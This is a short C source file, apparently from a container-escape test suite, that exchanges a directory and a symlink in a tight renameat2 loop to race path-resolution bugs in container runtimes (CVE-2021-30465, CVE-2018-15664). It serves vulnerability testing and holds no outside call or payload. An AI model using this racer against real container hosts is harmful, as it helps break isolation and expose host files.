/*
 * The racer of the escape suite's races (CVE-2021-30465, CVE-2018-15664): swaps two names,
 * a directory and a symlink, with renameat2(RENAME_EXCHANGE) as fast as it can for SECONDS,
 * so that a runtime or an engine that resolves a path and then uses it by name meets the
 * symlink at the second step. Says `racing` after its first swap, and at its end how many it made. Built static by the test: the
 * busybox images have no C library.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

int main(int argc, char **argv) {
  if (argc != 4) {
    fprintf(stderr, "usage: swap-race PATH1 PATH2 SECONDS\n");
    return 2;
  }
  time_t end = time(NULL) + atoi(argv[3]);
  unsigned long n = 0;
  while (time(NULL) < end) {
    for (int i = 0; i < 1000; i++, n++)
      if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) < 0) {
        perror("renameat2");
        return 1;
      } else if (n == 0) {
        printf("racing\n");
        fflush(stdout);
      }
  }
  /* An even count leaves the names as they were. */
  if (n % 2) syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE);
  printf("swapped %lu\n", n);
  return 0;
}
